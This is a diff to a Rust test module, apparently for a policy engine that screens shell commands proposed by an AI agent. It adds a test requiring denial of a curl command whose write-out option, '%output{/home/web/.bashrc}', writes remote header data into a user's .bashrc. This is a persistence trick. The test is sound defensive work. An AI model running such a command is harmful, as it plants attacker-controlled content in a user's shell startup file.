@@ -936,6 +936,8 @@ mod tests {
         ] {
             review(Action::exec("h", c), "agent-review-shell");
         }
+        let v = verdict(IdentityKind::Agent, &Action::exec("h", "curl -q -s -o /dev/null -w '%output{/home/web/.bashrc}%{header_json}' https://x.example/"));
+        assert!(matches!(&v, Verdict::Deny { rule, .. } if rule == "agent-no-unreadable-commands"), "{v:?}");
         // Round 104: the home's `.curlrc` and `.wgetrc`, read unless the first argument says not.
         for c in ["curl -s http://x/", "curl -sq http://x/", "curl http://x/ -q", "curl", "wget -q -O- http://x/", "wget -O --no-config http://x/", "wget", "timeout 5 curl http://x/", "env curl -s http://x/"] {
             review(Action::exec("h", c), "agent-review-shell");
